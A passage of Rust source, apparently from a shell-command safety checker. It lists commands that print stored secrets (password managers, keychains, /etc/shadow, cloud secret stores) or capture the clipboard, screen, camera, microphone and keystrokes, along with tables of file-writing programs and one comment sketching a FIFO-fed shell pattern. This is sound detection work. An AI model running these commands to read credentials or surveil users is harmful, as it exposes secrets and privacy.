            "ls", "list", "find", "search", "init", "help", "version", "insert", "add", "edit",
            "generate", "rm", "remove", "delete", "mv", "rename", "cp", "copy", "git",
        ]),
        &[],
        "~/.password-store",
    ),
    // gopass(1) keeps pass's store and prints an entry given its name alone too.
    printer(
        &["gopass"],
        Subcommands::AnyBut(&[
            "ls",
            "list",
            "find",
            "search",
            "init",
            "setup",
            "help",
            "version",
            "insert",
            "edit",
            "generate",
            "rm",
            "remove",
            "delete",
            "mv",
            "move",
            "cp",
            "copy",
            "git",
            "sync",
            "config",
            "mounts",
            "recipients",
            "templates",
            "audit",
            "fsck",
            "completion",
            "update",
            "alias",
            "age",
            "clone",
            "create",
        ]),
        &[],
        "~/.password-store",
    ),
    // getent(1) prints a system database's entries: `shadow` holds the password hashes.
    printer(
        &["getent"],
        Subcommands::OneOf(&["shadow", "gshadow"]),
        &[],
        "/etc/shadow",
    ),
    printer(
        &["op"],
        Subcommands::OneOf(&["read"]),
        &[],
        "~/.config/op/config",
    ),
    printer(
        &["op"],
        Subcommands::OneOf(&["item"]),
        &["get"],
        "~/.config/op/config",
    ),
    printer(
        &["vault"],
        Subcommands::OneOf(&["read"]),
        &[],
        "~/.vault-token",
    ),
    printer(
        &["vault"],
        Subcommands::OneOf(&["kv"]),
        &["get"],
        "~/.vault-token",
    ),
    printer(
        &["vault"],
        Subcommands::OneOf(&["print"]),
        &["token"],
        "~/.vault-token",
    ),
    SecretPrinter {
        flags: &["-w"],
        ..printer(
            &["security"],
            Subcommands::OneOf(&["find-generic-password", "find-internet-password"]),
            &[],
            "~/Library/Keychains/login.keychain-db",
        )
    },
    SecretPrinter {
        flags: &["-d"],
        ..printer(
            &["security"],
            Subcommands::OneOf(&["dump-keychain"]),
            &[],
            "~/Library/Keychains/login.keychain-db",
        )
    },
    // KDE's wallet: `kwallet-query -r ENTRY WALLET` prints an entry's password.
    SecretPrinter {
        flags: &["-r", "--read-password"],
        ..printer(
            &["kwallet-query"],
            Subcommands::Any,
            &[],
            "~/.local/share/kwalletd/kdewallet.kwl",
        )
    },
    printer(
        &["secret-tool"],
        Subcommands::OneOf(&["lookup", "search"]),
        &[],
        "~/.local/share/keyrings/login.keyring",
    ),
    printer(
        &["op"],
        Subcommands::OneOf(&["document"]),
        &["get"],
        "~/.config/op/config",
    ),
    // What the user sees, hears, types and copies: the clipboard, the screen, the camera,
    // the microphone and the keyboard are read through a device (Cygwin's `/dev/clipboard`;
    // the frame buffer; V4L2's; ALSA's; evdev's), their store here whatever the system.
    printer(
        &["wl-paste", "pbpaste", "termux-clipboard-get"],
        Subcommands::Any,
        &[],
        CLIPBOARD,
    ),
    SecretPrinter {
        words: &["-o", "-out", "--output"],
        ..printer(&["xclip", "xsel"], Subcommands::Any, &[], CLIPBOARD)
    },
    printer(
        &[
            "scrot",
            "grim",
            "maim",
            "gnome-screenshot",
            "spectacle",
            "screencapture",
            "flameshot",
            "wf-recorder",
        ],
        Subcommands::Any,
        &[],
        SCREEN,
    ),
    printer(&["import"], Subcommands::Any, &["root"], SCREEN),
    SecretPrinter {
        words: &["-root"],
        ..printer(&["xwd"], Subcommands::Any, &[], SCREEN)
    },
    SecretPrinter {
        mentions: &["x11grab", "kmsgrab", "gdigrab", "fbdev"],
        ..printer(&["ffmpeg"], Subcommands::Any, &[], SCREEN)
    },
    SecretPrinter {
        mentions: &["v4l2", "avfoundation", "dshow", "video4linux2"],
        ..printer(&["ffmpeg"], Subcommands::Any, &[], CAMERA)
    },
    printer(
        &["fswebcam", "imagesnap", "streamer"],
        Subcommands::Any,
        &[],
        CAMERA,
    ),
    SecretPrinter {
        mentions: &["alsa", "pulse", "jack"],
        ..printer(&["ffmpeg"], Subcommands::Any, &[], MICROPHONE)
    },
    printer(
        &["arecord", "parecord", "pw-record", "rec"],
        Subcommands::Any,
        &[],
        MICROPHONE,
    ),
    printer(
        &["xinput"],
        Subcommands::OneOf(&["test", "test-xi2"]),
        &[],
        KEYBOARD,
    ),
    printer(
        &["evtest", "logkeys", "showkey"],
        Subcommands::Any,
        &[],
        KEYBOARD,
    ),
    // Bitwarden's CLI: `bw get password|item|notes|totp …` and `bw export` print the vault.
    printer(
        &["bw"],
        Subcommands::OneOf(&["get", "export"]),
        &[],
        "~/.config/Bitwarden CLI/data.json",
    ),
    printer(
        &["bw"],
        Subcommands::OneOf(&["list"]),
        &["items"],
        "~/.config/Bitwarden CLI/data.json",
    ),
    // sops decrypts with the age or PGP key of the home: what it prints is the plain secret.
    SecretPrinter {
        flags: &["-d", "--decrypt"],
        ..printer(
            &["sops"],
            Subcommands::Any,
            &[],
            "~/.config/sops/age/keys.txt",
        )
    },
    printer(
        &["sops"],
        Subcommands::OneOf(&["decrypt"]),
        &[],
        "~/.config/sops/age/keys.txt",
    ),
    // The clouds' secret stores, read with the credentials of the home.
    printer(
        &["aws"],
        Subcommands::OneOf(&["secretsmanager"]),
        &["get-secret-value", "batch-get-secret-value"],
        "~/.aws/credentials",
    ),
    SecretPrinter {
        flags: &["--with-decryption"],
        ..printer(
            &["aws"],
            Subcommands::OneOf(&["ssm"]),
            &["get-parameter", "get-parameters", "get-parameters-by-path"],
            "~/.aws/credentials",
        )
    },
    printer(
        &["gcloud"],
        Subcommands::OneOf(&["secrets"]),
        &["access"],
        "~/.config/gcloud/credentials.db",
    ),
    printer(
        &["az"],
        Subcommands::OneOf(&["keyvault"]),
        &["show", "download"],
        "~/.azure/msal_token_cache.json",
    ),
];

/// The files of the stores `command` prints a secret from (see [`SECRET_PRINTERS`])
pub(crate) fn secret_stores(command: &crate::SimpleCommand) -> Vec<&'static str> {
    static BY_NAME: ByName = LazyLock::new(|| by_name::index(SECRET_PRINTERS, |row| row.programs));
    let program = command.program.as_str();
    // A credential helper (`git-credential-store`) is found by its name's start. Searching
    // for a text sets a searcher up, which costs more than most commands' other lookups: a
    // name without a `-` is searched no further.
    let family = program
        .contains('-')
        .then(|| program.find("-credential-"))
        .flatten()
        .and_then(|at| program.get(..at + "-credential-".len()));
    let rows = by_name::rows(SECRET_PRINTERS, &BY_NAME, program).chain(
        family
            .into_iter()
            .flat_map(|start| by_name::rows(SECRET_PRINTERS, &BY_NAME, start)),
    );
    let subcommand = command.subcommand.as_deref();
    rows.filter(|row| match row.subcommands {
        Subcommands::Any => true,
        Subcommands::OneOf(names) => subcommand.is_some_and(|sub| names.contains(&sub)),
        Subcommands::AnyBut(names) => subcommand.is_some_and(|sub| !names.contains(&sub)),
    })
    .filter(|row| {
        row.operands.is_empty()
            || command
                .operands
                .iter()
                .any(|operand| row.operands.contains(&operand.as_str()))
    })
    .filter(|row| {
        row.mentions.is_empty()
            || command.operands.iter().any(|operand| {
                let operand = operand.to_ascii_lowercase();
                row.mentions.iter().any(|text| operand.contains(text))
            })
    })
    .filter(|row| {
        row.flags.is_empty()
            || command
                .flags
                .iter()
                .any(|flag| names_one_of(flag, row.flags))
    })
    .filter(|row| {
        row.words.is_empty()
            || command
                .args
                .iter()
                .any(|arg| row.words.contains(&arg.as_str()))
    })
    .map(|row| row.store)
    .collect()
}

/// Whether `flag` is one of `flags`, or a long one abbreviated as getopt_long and gpg take
/// it (`--export-secret-key` for `--export-secret-keys`), as far as into its last word: a
/// shorter start may be another option whole (`--export`), and an abbreviation the program
/// finds ambiguous makes it refuse to run
fn names_one_of(flag: &str, flags: &[&str]) -> bool {
    flags.iter().any(|option| {
        let last_word = option.rfind('-').filter(|at| *at > 1);
        *option == flag
            || last_word.is_some_and(|at| {
                option.starts_with("--") && option.starts_with(flag) && flag.len() > at + 1
            })
    })
}

/// The options of ddrescue(1) that take the next word as their value
const DDRESCUE_VALUED: &[&str] = &[
    "-a",
    "--min-read-rate",
    "-b",
    "--sector-size",
    "-c",
    "--cluster-size",
    "-e",
    "--max-bad-areas",
    "-E",
    "--max-error-rate",
    "-i",
    "--input-position",
    "-K",
    "--skip-size",
    "-m",
    "--domain-mapfile",
    "-o",
    "--output-position",
    "-r",
    "--retry-passes",
    "-s",
    "--size",
    "-T",
    "--timeout",
    "-x",
    "--extend-outfile",
    "-Z",
    "--max-read-rate",
    "--log-events",
    "--log-rates",
    "--log-reads",
];

/// The options of openssl's commands whose value is a file they write, as one dash, two,
/// or glued after `=`
const OPENSSL_WRITING: &[&str] = &[
    "-out",
    "--out",
    "-out=",
    "-keyout",
    "--keyout",
    "-keyout=",
    "-writerand",
    "--writerand",
    "-writerand=",
    "-certout",
    "--certout",
    "-certout=",
    "-chainout",
    "--chainout",
    "-chainout=",
    "-reqout",
    "--reqout",
    "-reqout=",
    "-respout",
    "--respout",
    "-respout=",
    "-certsout",
    "--certsout",
    "-certsout=",
    "-sess_out",
    "--sess_out",
    "-sess_out=",
    "-keylogfile",
    "--keylogfile",
    "-keylogfile=",
    "-msgfile",
    "--msgfile",
    "-msgfile=",
];

/// The short options that take a value in GNU tar and bsdtar alike, which old-style letters
/// (`tar xbfC 20 a.tar DIR`) take in turn from the words after them
const TAR_VALUED: &[&str] = &[
    "-C",
    "--directory",
    "-f",
    "--file",
    "-b",
    "-F",
    "-g",
    "-I",
    "-K",
    "-L",
    "-N",
    "-T",
    "-V",
    "-X",
];

/// zip(1)'s options that take the next word as their value
const ZIP_VALUED: &[&str] = &[
    "-b",
    "-n",
    "-t",
    "-tt",
    "-x",
    "-i",
    "-P",
    "-O",
    "--output-file",
    "-Z",
    "-TT",
];

/// The flags with which gzip(1) writes no file: to the standard output, or testing or
/// listing
const GZIP_STDOUT: &[&str] = &[
    "-c",
    "--stdout",
    "--to-stdout",
    "-t",
    "--test",
    "-l",
    "--list",
];

/// The flags with which bzip2(1) writes no file
const BZIP2_STDOUT: &[&str] = &["-c", "--stdout", "-t", "--test"];

/// The flags with which xz(1) writes no file
const XZ_STDOUT: &[&str] = &[
    "-c",
    "--stdout",
    "--to-stdout",
    "-t",
    "--test",
    "-l",
    "--list",
];

/// The flags with which zstd(1) writes no file of its own naming, and `-o FILE`, with which
/// it writes that file (the row of `-o` reads it)
const ZSTD_STDOUT: &[&str] = &["-c", "--stdout", "-t", "--test", "-l", "--list", "-o"];

/// The flags with which lz4(1) writes no file
const LZ4_STDOUT: &[&str] = &["-c", "--stdout", "-t", "--test"];

/// The flags with which brotli(1) writes no file of its own naming, and `-o FILE`, with
/// which it writes that file (the row of `-o` reads it)
const BROTLI_STDOUT: &[&str] = &["-c", "--stdout", "-t", "--test", "-o", "--output"];

/// brotli(1)'s options that take the next word as their value
const BROTLI_VALUED: &[&str] = &[
    "-o",
    "--output",
    "-S",
    "--suffix",
    "-q",
    "--quality",
    "-w",
    "--lgwin",
    "-D",
    "--dictionary",
];

/// The flags with which lzop(1) writes no file of its own naming, and `-o FILE`
const LZOP_STDOUT: &[&str] = &[
    "-c",
    "--stdout",
    "--to-stdout",
    "-t",
    "--test",
    "-l",
    "--list",
    "-o",
    "--output",
];

/// lzop(1)'s options that take the next word as their value
const LZOP_VALUED: &[&str] = &["-o", "--output", "-S", "--suffix", "-p", "--path"];

/// unison(1)'s preferences that take the next word as their value
const UNISON_VALUED: &[&str] = &[
    "-root",
    "-path",
    "-ignore",
    "-ignorenot",
    "-ignorecase",
    "-logfile",
    "-force",
    "-forcepartial",
    "-prefer",
    "-preferpartial",
    "-backup",
    "-backupdir",
    "-backuploc",
    "-backupprefix",
    "-backupsuffix",
    "-maxbackups",
    "-label",
    "-ui",
    "-sshargs",
    "-sshcmd",
    "-servercmd",
    "-copyprog",
    "-copyprogrest",
    "-copythreshold",
    "-diff",
    "-merge",
    "-follow",
    "-nocreation",
    "-nodeletion",
    "-noupdate",
    "-rootalias",
    "-repeat",
    "-retry",
    "-maxthreads",
    "-maxerrors",
    "-sortfirst",
    "-sortlast",
    "-height",
    "-key",
    "-socket",
    "-statusdepth",
    "-include",
    "-source",
    "-perms",
];

/// Every program that writes files its words name, one row each
pub(crate) const WRITERS: &[Writer] = &[
    Writer {
        programs: &["cp", "gcp"],
        valued: &["-S", "--suffix", "-t", "--target-directory"],
        destination: Destination::Last {
            into: &["-t", "--target-directory"],
            exact: &["-T", "--no-target-directory"],
            recursive: &["-r", "-R", "-a", "--recursive", "--archive"],
        },
    },
    Writer {
        programs: &["mv", "install"],
        valued: &[
            "-S",
            "--suffix",
            "-t",
            "--target-directory",
            "-m",
            "--mode",
            "-o",
            "--owner",
            "-g",
            "--group",
        ],
        destination: Destination::Last {
            into: &["-t", "--target-directory"],
            exact: &["-T", "--no-target-directory"],
            recursive: &[],
        },
    },
    Writer {
        programs: &["ln"],
        valued: &["-S", "--suffix", "-t", "--target-directory"],
        destination: Destination::Last {
            into: &["-t", "--target-directory"],
            exact: &["-T", "--no-target-directory"],
            recursive: &[],
        },
    },
    Writer {
        programs: &["rsync"],
        valued: &[
            "-e",
            "--rsh",
            "--rsync-path",
            "--exclude",
            "--include",
            "--filter",
            "-f",
            "--files-from",
            "--exclude-from",
            "--include-from",
            "--backup-dir",
            "--suffix",
            "--chmod",
            "--chown",
            "-T",
            "--temp-dir",
            "--log-file",
            "--password-file",
            "--port",
            "--timeout",
        ],
        destination: Destination::Last {
            into: &[],
            exact: &[],
            // A source ending in `/` copies its contents, and `--delete` removes the rest.
            recursive: &[
                "-r",
                "-a",
                "--recursive",
                "--archive",
                "--delete",
                "--delete-after",
                "--delete-before",
                "--delete-during",
                "--delete-excluded",
                "--mirror",
            ],
        },
    },
    // unison(1): both roots are synchronised, and either may lose what the other lacks
    // (`-force ROOT`, `-prefer ROOT`, deletions propagated).
    Writer {
        programs: &["unison", "unison-text", "unison-gtk"],
        valued: UNISON_VALUED,
        destination: Destination::Trees(&["-root"]),
    },
    Writer {
        // An editor given a file and commands on its input: `w` writes it back.
        programs: &["ed", "red"],
        valued: &["-p", "--prompt"],
        destination: Destination::Every,
    },
    Writer {
        // Editors given a file and commands (`ex -sc '%d|x' FILE`, `vim -es -c ... FILE`,
        // `nvim --headless -c ... FILE`). `-s` takes a script file in Normal mode but is
        // silent mode in Ex mode (`ex -s`, `vim -e -s`, `vim -es`): it is read as a flag,
        // so a script file given to it counts as written too rather than the edited file
        // as a script.
        programs: crate::vim::VIM_EDITORS,
        valued: &["-c", "--cmd", "-S", "-u", "-i", "-T", "-w", "-W"],
        destination: Destination::Every,
    },
    Writer {
        programs: &["fallocate"],
        valued: &["-o", "--offset", "-l", "--length"],
        destination: Destination::Every,
    },
    Writer {
        programs: &["perl", "perl5"],
        valued: &["-e", "-E", "-M", "-m", "-I"],
        destination: Destination::InPlace(&["-i"]),
    },
    Writer {
        programs: &["tee", "sponge"],
        valued: &[],
        destination: Destination::Every,
    },
    // A FIFO made on the line holds what another command writes into it when it runs
    // (`mkfifo f; sh < f & curl … > f`): a file written on the line (mkfifo(1), mknod(1)).
    Writer {
        programs: &["mkfifo"],
        valued: &["-m", "--mode"],
        destination: Destination::Every,
    },
    Writer {
        programs: &["mknod"],
        valued: &["-m", "--mode"],
        destination: Destination::Nth {
            commands: &[],
            at: 0,
        },
    },
    Writer {
        programs: &["truncate"],
        valued: &["-s", "--size", "-r", "--reference"],
        destination: Destination::Every,
    },
    Writer {
        programs: &["shred"],
        valued: &["-n", "--iterations", "-s", "--size", "--random-source"],
        destination: Destination::Every,
    },
    // find(1)'s `-fprint FILE`, `-fprint0 FILE`, `-fls FILE` and `-fprintf FILE FORMAT`
    // create or truncate FILE, whether or not anything is found.
    Writer {
        programs: &["find"],
        valued: &["-fprint", "-fprint0", "-fls", "-fprintf"],
        destination: Destination::Options(&["-fprint", "-fprint0", "-fls", "-fprintf"]),
    },
    Writer {
        programs: &["dd"],
        valued: &[],
        destination: Destination::Options(&["of="]),
    },
    Writer {
        // dcfldd(1) and dc3dd(1): `of=` (given again for more outputs), the devices dc3dd
        // wipes, and the logs and hash files they write.
        programs: &["dcfldd", "dc3dd"],
        valued: &[],
        destination: Destination::Options(&[
            "of=",
            "ofs=",
            "hof=",
            "hofs=",
            "wipe=",
            "hwipe=",
            "log=",
            "hlog=",
            "mlog=",
            "errlog=",
            "hashlog=",
            "md5log=",
            "sha1log=",
            "sha256log=",
            "sha384log=",
            "sha512log=",
        ]),
    },
    Writer {
        // ddrescue(1): `ddrescue [options] INFILE OUTFILE [MAPFILE]`.
        programs: &["ddrescue"],
        valued: DDRESCUE_VALUED,
        destination: Destination::After(1),
    },
    Writer {
        programs: &["ddrescue"],
        valued: DDRESCUE_VALUED,
        destination: Destination::Options(&["--log-events", "--log-rates", "--log-reads"]),
    },
    Writer {
        // The files openssl's commands write (`openssl CMD -help`): `-out` of most, and
        // the keys, certificates, sessions and logs some write. OpenSSL reads an option
        // with one dash or two, its value in the next word or after `=`.
        programs: &["openssl"],
        valued: OPENSSL_WRITING,
        destination: Destination::Options(OPENSSL_WRITING),
    },
    Writer {
        programs: &["openssl"],
        valued: &["-outdir", "--outdir"],
        destination: Destination::Folder {
            options: &["-outdir", "--outdir"],
            glued: Glued::Never,
            tar_extracting: false,
        },
    },
    Writer {
        programs: &["sort"],
        valued: &[
            "-o",
            "--output",
            "-k",
            "--key",
            "-t",
            "--field-separator",
            "-S",
            "--buffer-size",
            "-T",
            "--temporary-directory",
        ],
        destination: Destination::Options(&["-o", "--output"]),
    },
    Writer {
        programs: &["curl"],
        valued: &["-o", "--output"],
        destination: Destination::Options(&["-o", "--output"]),
    },
    // HTTPie (`http`, `https`), xh and axel save a download as the file of `-o`.
    Writer {
        programs: &["http", "https", "xh", "xhs", "axel"],
        valued: &["-o", "--output"],
        destination: Destination::Options(&["-o", "--output"]),
    },
    // `qemu-img convert IN OUT` (and `dd`'s `of=`) writes its last operand: an image, or a
    // device (`qemu-img convert -O raw x.qcow2 /dev/sda`).
    Writer {
        programs: &["qemu-img"],
        valued: &[
            "-f", "-O", "-o", "-t", "-T", "-l", "-S", "-m", "-B", "-F", "-r",
        ],
        destination: Destination::Last {
            into: &[],
            exact: &[],
            recursive: &[],
        },
    },
    // scp(1) copies to its last operand, a local file unless it names a host.
    Writer {
        programs: &["scp"],
        valued: &["-c", "-F", "-i", "-J", "-l", "-o", "-P", "-S", "-X", "-D"],
        destination: Destination::Last {
            into: &[],
            exact: &[],
            recursive: &["-r"],
        },
    },
    Writer {
        programs: &["curl"],
        valued: &[
            "-o",
            "--output",
            "-H",
            "--header",
            "-d",
            "--data",
            "-u",
            "--user",
            "-X",
            "--request",
            "-A",
            "--user-agent",
            "-e",
            "--referer",
            "-F",
            "--form",
            "-T",
            "--upload-file",
            "-K",
            "--config",
            "--output-dir",
        ],
        // With `--output-dir`, `-o FILE` is below it too (the row above reads `-o` alone).
        destination: Destination::UrlName {
            when: &["-O", "--remote-name", "--remote-name-all"],
            unless: &[],
            folder: &["--output-dir"],
            name: &["-o", "--output"],
        },
    },
    Writer {
        programs: &["wget"],
        valued: &[
            "-O",
            "--output-document",
            "-P",
            "--directory-prefix",
            "-U",
            "--user-agent",
            "--header",
            "-e",
            "--execute",
            "-i",
            "--input-file",
            "-o",
            "--output-file",
            "-a",
            "--append-output",
        ],
        destination: Destination::UrlName {
            when: &[],
            unless: &["-O", "--output-document", "-i", "--input-file", "--spider"],
            folder: &["-P", "--directory-prefix"],
            name: &[],
        },
    },
    // dpkg hands `-x` and its kin to dpkg-deb (dpkg(1)).
    Writer {
        programs: &["dpkg-deb", "dpkg"],
        valued: &[
            "--admindir",
            "--root",
            "--instdir",
            "-Z",
            "-z",
            "-S",
            "--path-exclude",
        ],
        destination: Destination::Extract(&[
            "-x",
            "--extract",
            "-X",
            "--vextract",
            "-R",
            "--raw-extract",
        ]),
    },
    Writer {
        programs: &["aria2c"],
        // aria2c's options that take a value in a word of their own (aria2c(1))
        valued: &[
            "-d",
            "--dir",
            "-o",
            "--out",
            "-i",
            "--input-file",
            "-l",
            "--log",
            "-j",
            "-s",
            "-t",
            "-x",
            "-k",
            "-m",
            "-T",
            "--torrent-file",
            "-M",
            "--metalink-file",
            "-u",
            "-U",
            "--user-agent",
            "--header",
        ],
        destination: Destination::UrlName {
            when: &[],
            unless: &[
                "-i",
                "--input-file",
                "-T",
                "--torrent-file",
                "-M",
                "--metalink-file",
            ],
            folder: &["-d", "--dir"],
            name: &["-o", "--out"],
        },
    },
    // What a screenshot, a recording or a photo is saved as: each operand past the options'
    // values (ffmpeg's inputs are `-i`'s).
    Writer {
        programs: &[
            "import",
            "scrot",
            "grim",
            "maim",
            "screencapture",
            "ffmpeg",
            "arecord",
            "parecord",
            "pw-record",
            "fswebcam",
            "imagesnap",
        ],
        valued: &[
            "-f",
            "-i",
            "-t",
            "-d",
            "-r",
            "-s",
            "-c",
            "-window",
            "-g",
            "-o",
            "-D",
            "-ss",
            "-vf",
            "-af",
            "-c:v",
            "-c:a",
            "-b:v",
            "-b:a",
            "-frames:v",
            "-video_size",
            "-framerate",
        ],
        destination: Destination::Every,
    },
    Writer {
        programs: &["uniq"],
        valued: &[
            "-f",
            "--skip-fields",
            "-s",
            "--skip-chars",
            "-w",
            "--check-chars",
        ],
        destination: Destination::Last {
            into: &[],
            exact: &[],
            recursive: &[],
        },
    },
    Writer {
        programs: &["split"],
        valued: &[
            "-a",
            "--suffix-length",
            "--additional-suffix",
            "-b",
            "--bytes",
            "-C",
            "--line-bytes",
            "-l",
            "--lines",
            "-n",
            "--number",
            "-t",
            "--separator",
            "--filter",
        ],
        destination: Destination::Last {
            into: &[],
            exact: &[],
            recursive: &[],
        },
    },
    Writer {
        programs: &["gpg", "gpg2", "psql"],
        valued: &[
            "-o",
            "--output",
            "-r",
            "--recipient",
            "-u",
            "--local-user",
            "-c",
            "--command",
            "-d",
            "--dbname",
            "-U",
            "--username",
            "-h",
            "--host",
            "-p",
            "--port",
            "-f",
            "--file",
            "-v",
            "--set",
            "--variable",
        ],
        destination: Destination::Options(&["-o", "--output"]),
    },
    Writer {
        programs: &["cpio"],
        valued: &[
            "-D",
            "--directory",
            "-F",
            "--file",
            "-H",
            "--format",
            "-E",
            "--pattern-file",
        ],
        destination: Destination::Folder {
            options: &["-D", "--directory"],
            glued: Glued::Getopt,
            tar_extracting: false,
        },
    },
    Writer {
        programs: &["wget"],
        valued: &["-O", "--output-document"],
        destination: Destination::Options(&["-O", "--output-document"]),
    },
    // The archive an archiver writes: zip(1) `zip ARCHIVE FILE...`, its `-O`/`--output-file`
    // copy; 7-Zip's and rar's commands that add, update, move, rename or delete entries.
    // patch(1) writes the file it is given to patch, its `-o` output, and the files of the
    // patch below `-d DIR`; `git apply --directory=DIR` (and `git am`) puts DIR before
    // every file of the patch.
    Writer {
        programs: &["patch"],
        valued: PATCH_VALUED,
        destination: Destination::Nth {
            commands: &[],
            at: 0,
        },
    },
    Writer {
        programs: &["patch"],
        valued: PATCH_VALUED,
        destination: Destination::Options(&["-o", "--output"]),
    },
    Writer {
        programs: &["patch"],
        valued: PATCH_VALUED,
        destination: Destination::Folder {
            options: &["-d", "--directory"],
            glued: Glued::Getopt,
            tar_extracting: false,
        },
    },
    Writer {
        programs: &["git"],
        valued: GIT_VALUED,
        destination: Destination::Folder {
            options: &["--directory"],
            glued: Glued::Never,
            tar_extracting: false,
        },
    },
    Writer {
        programs: &["zip"],
        valued: ZIP_VALUED,
        destination: Destination::Nth {
            commands: &[],
            at: 0,
        },
    },
    Writer {
        programs: &["zip"],
        valued: ZIP_VALUED,
        destination: Destination::Options(&["-O", "--output-file"]),
    },
    Writer {
        programs: &["7z", "7za", "7zr", "7zz", "7zzs"],
        valued: &[],
        destination: Destination::Nth {
            commands: &["a", "u", "d", "rn"],
            at: 1,
        },
    },
    Writer {
        programs: &["rar"],
        valued: &[],
        destination: Destination::Nth {
            commands: &["a", "u", "d", "m", "f", "rn"],
            at: 1,
        },
    },
    Writer {
        programs: &["tar", "gtar", "bsdtar"],
        valued: TAR_VALUED,
        destination: Destination::TarArchive(&["-f", "--file"]),
    },
    Writer {
        programs: &["gzip", "pigz"],
        valued: &["-S", "--suffix"],
        destination: Destination::Compressed {
            suffix: ".gz",
            decompressor: false,
            decompress: &["-d", "--decompress", "--uncompress"],
            no_file: GZIP_STDOUT,
        },
    },
    Writer {
        programs: &["gunzip", "unpigz"],
        valued: &["-S", "--suffix"],
        destination: Destination::Compressed {
            suffix: ".gz",
            decompressor: true,
            decompress: &[],
            no_file: GZIP_STDOUT,
        },
    },
    Writer {
        programs: &["bzip2"],
        valued: &[],
        destination: Destination::Compressed {
            suffix: ".bz2",
            decompressor: false,
            decompress: &["-d", "--decompress"],
            no_file: BZIP2_STDOUT,
        },
    },
    Writer {
        programs: &["bunzip2"],
        valued: &[],
        destination: Destination::Compressed {
            suffix: ".bz2",
            decompressor: true,
            decompress: &[],
            no_file: BZIP2_STDOUT,
        },
    },
    Writer {
        programs: &["xz"],
        valued: XZ_VALUED,
        destination: Destination::Compressed {
            suffix: ".xz",
            decompressor: false,
            decompress: &["-d", "--decompress", "--uncompress"],
            no_file: XZ_STDOUT,
        },
    },
    Writer {
        programs: &["unxz"],
        valued: XZ_VALUED,
        destination: Destination::Compressed {
            suffix: ".xz",
            decompressor: true,
            decompress: &[],
            no_file: XZ_STDOUT,
        },
    },
    Writer {
        programs: &["lzma"],
        valued: XZ_VALUED,
        destination: Destination::Compressed {
            suffix: ".lzma",
            decompressor: false,
            decompress: &["-d", "--decompress", "--uncompress"],
            no_file: XZ_STDOUT,
        },
    },
    Writer {
        programs: &["unlzma"],
        valued: XZ_VALUED,
        destination: Destination::Compressed {
            suffix: ".lzma",
            decompressor: true,
            decompress: &[],
            no_file: XZ_STDOUT,
        },
    },
    Writer {
        programs: &["zstd"],
        valued: ZSTD_VALUED,
        destination: Destination::Compressed {
            suffix: ".zst",
            decompressor: false,
            decompress: &["-d", "--decompress", "--uncompress"],
            no_file: ZSTD_STDOUT,
        },
    },
    Writer {
        programs: &["unzstd"],
        valued: ZSTD_VALUED,
        destination: Destination::Compressed {
            suffix: ".zst",
            decompressor: true,
            decompress: &[],
            no_file: ZSTD_STDOUT,
        },
    },
    Writer {
        programs: &["lz4", "lz4c"],
        valued: &[],
        destination: Destination::Compressed {
            suffix: ".lz4",
            decompressor: false,
            decompress: &["-d", "--decompress", "--uncompress"],
            no_file: LZ4_STDOUT,
        },
    },
    Writer {
        programs: &["unlz4"],
        valued: &[],
        destination: Destination::Compressed {
            suffix: ".lz4",
            decompressor: true,
            decompress: &[],
            no_file: LZ4_STDOUT,
        },
    },
    Writer {
        programs: &["compress"],
        valued: &["-b"],
        destination: Destination::Compressed {
            suffix: ".Z",
            decompressor: false,
            decompress: &["-d"],
            no_file: &["-c"],
        },
    },
    Writer {
        programs: &["uncompress"],
        valued: &["-b"],
        destination: Destination::Compressed {
            suffix: ".Z",
            decompressor: true,
            decompress: &[],
            no_file: &["-c"],
        },
    },
    Writer {
        programs: &["zstd", "unzstd"],
        valued: ZSTD_VALUED,
        destination: Destination::Options(&["-o"]),
    },
    // lz4(1): `lz4 [arg] [input] [output]`, the second operand the file it writes (with
    // `-m` each operand is an input: counted as written all the same, never fewer).
    Writer {
        programs: &["lz4", "lz4c", "unlz4"],
        valued: &[],
        destination: Destination::After(1),
    },
    Writer {
        programs: &["brotli"],
        valued: BROTLI_VALUED,
        destination: Destination::Compressed {
            suffix: ".br",
            decompressor: false,
            decompress: &["-d", "--decompress"],
            no_file: BROTLI_STDOUT,
        },
    },
    Writer {
        programs: &["lzop"],
        valued: LZOP_VALUED,
        destination: Destination::Compressed {
            suffix: ".lzo",
            decompressor: false,
            decompress: &["-d", "--decompress", "--uncompress", "-x", "--extract"],
            no_file: LZOP_STDOUT,
        },
    },
    Writer {
        programs: &["brotli"],
        valued: BROTLI_VALUED,
        destination: Destination::Options(&["-o", "--output"]),
    },
    Writer {
        programs: &["lzop"],
        valued: LZOP_VALUED,
        destination: Destination::Options(&["-o", "--output"]),
    },
    Writer {
        programs: &["tar", "gtar", "bsdtar"],
        valued: TAR_VALUED,
        destination: Destination::Folder {
            options: &["-C", "--directory"],
            glued: Glued::Getopt,
            tar_extracting: true,
        },
    },
    Writer {
        programs: &["unzip"],
        valued: &["-d"],
        destination: Destination::Folder {
            options: &["-d"],
            glued: Glued::Getopt,
            tar_extracting: false,
        },
    },
    Writer {
        // `pip install --target DIR` (`--root`, `--prefix`) installs below `DIR`.
        programs: &["pip", "pip3"],
        valued: &["-t", "--target", "--root", "--prefix"],
        destination: Destination::Folder {
            options: &["-t", "--target", "--root", "--prefix"],
            glued: Glued::Getopt,
            tar_extracting: false,
        },
    },
    Writer {
        // 7-Zip reads its switches without case, and `-o` only with its folder glued on.
        programs: &["7z", "7za", "7zr", "7zz", "7zzs"],
        valued: &[],
        destination: Destination::Folder {
            options: &["-o", "-O"],
            glued: Glued::Option,
            tar_extracting: false,
        },
    },
    Writer {
        programs: &["unar"],
        valued: &[
            "-o",
            "-output-directory",
            "--output-directory",
            "-p",
            "-password",
            "-e",
            "-encoding",
            "-E",
            "-password-encoding",
            "-i",
            "-indexes",
            "-k",
            "-forks",
        ],
        destination: Destination::Folder {
            options: &["-o", "-output-directory", "--output-directory"],
            glued: Glued::Never,
            tar_extracting: false,
        },
    },
    Writer {
        programs: &["cabextract"],
        valued: &["-d", "--directory", "-F", "--filter", "-e", "--encoding"],
        destination: Destination::Folder {
            options: &["-d", "--directory"],
            glued: Glued::Getopt,
            tar_extracting: false,
        },
    },
    Writer {
        programs: &["python", "pypy"],
        valued: &[],
        destination: Destination::Module {
            modules: &["zipfile", "tarfile"],
            extract: &["-e", "--extract"],
            create: &["-c", "--create"],
        },
    },
    Writer {
        programs: &["git"],
        valued: GIT_VALUED,
        destination: Destination::Clone(&["clone"]),
    },
    // git-submodule(1): `submodule add URL [PATH]` clones URL into PATH, named as a clone's
    // folder is without it. (`submodule update --init` fetches the URLs the project's
